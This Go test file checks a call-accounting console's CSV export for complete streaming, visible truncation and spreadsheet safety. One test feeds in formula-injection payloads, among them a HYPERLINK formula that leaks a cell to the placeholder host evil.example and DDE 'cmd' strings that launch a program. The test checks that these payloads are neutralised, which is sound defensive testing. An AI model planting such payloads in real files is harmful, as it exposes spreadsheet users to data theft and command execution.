package console_test

// The CSV export (/calls.csv): its cells are safe for a spreadsheet and a
// cut stream is visible to the client (issue #14, D1 and D6).

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"callgate/gateway"
	"callgate/gateway/console"
)

// pagedQueries wraps the journal's queries for the export tests: it notes
// whether a read carried a deadline, and on every page after the first it
// calls page (nil: read on).
type pagedQueries struct {
	gateway.Queries
	deadline atomic.Bool
	page     func(ctx context.Context) error
}

func (q *pagedQueries) Entries(ctx context.Context, f gateway.Filter) ([]gateway.Entry, error) {
	if _, ok := ctx.Deadline(); ok {
		q.deadline.Store(true)
	}
	if f.After != 0 && q.page != nil {
		if err := q.page(ctx); err != nil {
			return nil, err
		}
	}
	return q.Queries.Entries(ctx, f)
}

func exportEnv(t *testing.T, n int, page func(context.Context) error) (*consoleEnv, *pagedQueries) {
	q := &pagedQueries{page: page}
	e := newConsoleEnv(t, func(o *console.Options) { q.Queries = o.Queries; o.Queries = q })
	ctx := context.Background()
	start := time.Date(2026, 11, 27, 14, 0, 0, 0, time.UTC)
	for i := 1; i <= n; i++ {
		raw := []byte(fmt.Sprintf("call %d", i))
		c, err := e.j.Capture(ctx, gateway.RawRecord{Data: raw, Received: start, Source: "test"})
		if err != nil {
			t.Fatal(err)
		}
		at := start.Add(time.Duration(i) * time.Second)
		call := gateway.Call{Format: "test", Extension: "101", Dialed: "011441632960123", Start: at, StartUTC: at.Add(5 * time.Hour),
			DurationS: 130, Direction: gateway.Outgoing, Raw: raw}
		ch := gateway.Charge{Class: "international", Destination: "United Kingdom", Chargeable: true, TotalMinor: 539, Currency: "USD"}
		if _, err := e.j.Move(ctx, c.ID, gateway.Change{To: gateway.StateRated, Call: &call, Charge: &ch}); err != nil {
			t.Fatal(err)
		}
	}
	return e, q
}

// TestExportCSVNoDeadline: the export reads the journal without the pages'
// 30 s deadline, a page at a time, and a client gets every row, however
// long it takes to read them. On main it ran under ContextTimeout(30 s)
// and ended cleanly with the rows read by then.
func TestExportCSVNoDeadline(t *testing.T) {
	const n = 1234 // three pages of 500
	e, q := exportEnv(t, n, nil)
	b := e.as("aud")
	q.deadline.Store(false) // the dashboard's reads have one
	code, body, _ := b.get("/calls.csv")
	if code != 200 {
		t.Fatalf("export: %d", code)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != n+1 {
		t.Fatalf("%d rows, %v; want %d and a header", len(rows), err, n)
	}
	if q.deadline.Load() {
		t.Error("the export read the journal under a deadline: a slow client gets a cut file")
	}
}

// readExport starts the export and reads it to the end, returning what the
// client's read said at the end.
func readExport(t *testing.T, b *browser) (int, error) {
	t.Helper()
	res, err := b.hc.Get(b.base + "/calls.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != 200 {
		t.Fatalf("export: %d", res.StatusCode)
	}
	body, err := io.ReadAll(res.Body)
	return strings.Count(string(body), "\r\n"), err
}

// TestExportCSVCutIsVisible: a journal error after the first rows went out
// aborts the response, so the client's read fails instead of ending
// cleanly with rows missing.
func TestExportCSVCutIsVisible(t *testing.T) {
	e, _ := exportEnv(t, 600, func(context.Context) error {
		return gateway.Errorf(gateway.KindTransient, "the journal cannot be read")
	})
	lines, err := readExport(t, e.as("aud"))
	if err == nil {
		t.Fatalf("a cut export ended cleanly after %d lines", lines)
	}
	if lines >= 601 {
		t.Errorf("%d lines: the cut came after every row", lines)
	}
}

// TestExportCSVErrorBeforeRows: an error before any row went out is an
// error status, not a 200 with a header line.
func TestExportCSVErrorBeforeRows(t *testing.T) {
	e := newConsoleEnv(t, func(o *console.Options) {
		o.Queries = failingQueries{o.Queries}
	})
	code, _, _ := e.as("aud").get("/calls.csv")
	if code == 200 {
		t.Fatal("a journal error before the first row answered 200")
	}
}

type failingQueries struct{ gateway.Queries }

func (failingQueries) Entries(context.Context, gateway.Filter) ([]gateway.Entry, error) {
	return nil, errors.New("the journal cannot be read")
}

// TestExportCSVServerStop: Close (the console stopping) ends an export in
// progress, visibly to the client.
func TestExportCSVServerStop(t *testing.T) {
	reached := make(chan struct{})
	var once atomic.Bool
	e, _ := exportEnv(t, 600, func(ctx context.Context) error {
		if once.CompareAndSwap(false, true) {
			close(reached)
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(time.Minute): // a bound, never reached when Close works
			return nil
		}
	})
	b := e.as("aud")
	go func() {
		<-reached
		e.con.Close()
	}()
	if lines, err := readExport(t, b); err == nil {
		t.Fatalf("an export stopped by Close ended cleanly after %d lines", lines)
	}
}

// TestExportCSVFormulaCells: the probe's payloads in dialed, account code,
// trunk and extension reach the file as text; numbers stay numbers.
func TestExportCSVFormulaCells(t *testing.T) {
	e := newConsoleEnv(t)
	ctx := context.Background()
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `=1+1`, `-2+3+cmd|' /C calc'!A0`}
	start := time.Date(2026, 11, 27, 14, 3, 0, 0, time.UTC)
	for i, p := range payloads {
		c, err := e.j.Capture(ctx, gateway.RawRecord{Data: []byte(p), Received: start, Source: "test"})
		if err != nil {
			t.Fatal(err)
		}
		call := gateway.Call{Format: "test", Extension: p, Dialed: p, Trunk: p, AccountCode: p, Start: start.Add(time.Duration(i) * time.Second),
			StartUTC: start.Add(5 * time.Hour), DurationS: 130, Direction: gateway.Outgoing, Raw: []byte(p)}
		ch := gateway.Charge{Class: "x", Destination: p, Chargeable: true, CarrierMinor: -1250, TotalMinor: -1250, Currency: "USD"}
		if _, err := e.j.Move(ctx, c.ID, gateway.Change{To: gateway.StateRated, Call: &call, Charge: &ch}); err != nil {
			t.Fatal(err)
		}
	}
	code, body, _ := e.as("aud").get("/calls.csv")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if code != 200 || err != nil || len(rows) != len(payloads)+1 {
		t.Fatalf("%d %v %v", code, rows, err)
	}
	col := map[string]int{}
	for i, k := range rows[0] {
		col[k] = i
	}
	for _, r := range rows[1:] {
		for _, k := range []string{"extension", "dialed", "trunk", "account_code", "destination"} {
			if v := r[col[k]]; !strings.HasPrefix(v, "'") {
				t.Errorf("column %s = %q: a spreadsheet takes it for a formula", k, v)
			}
		}
		if r[col["carrier"]] != "-12.50" || r[col["total"]] != "-12.50" {
			t.Errorf("amounts %q %q, want -12.50 (a number)", r[col["carrier"]], r[col["total"]])
		}
	}
}

// TestFilterErrorOnce: a filter value that cannot be read is named once,
// not echo's "message=X, internal=X" (issue #14, D14).
func TestFilterErrorOnce(t *testing.T) {
	e := newConsoleEnv(t)
	want := `the filter could not be read: "abc" is not a whole number`
	for _, path := range []string{"/calls.csv?after=abc", "/calls?after=abc"} {
		code, body, _ := e.as("aud").get(path)
		if code != 400 || !strings.Contains(body, strings.ReplaceAll(want, `"`, "&#34;")) || strings.Contains(body, "internal=") {
			t.Errorf("%s: %d %s", path, code, body)
		}
	}
	code, body := e.api("GET", "/api/v1/calls?after=abc", e.token("aud"), "")
	if code != 400 || !strings.Contains(body, strings.ReplaceAll(want, `"`, `\"`)) {
		t.Errorf("api: %d %s", code, body)
	}
}
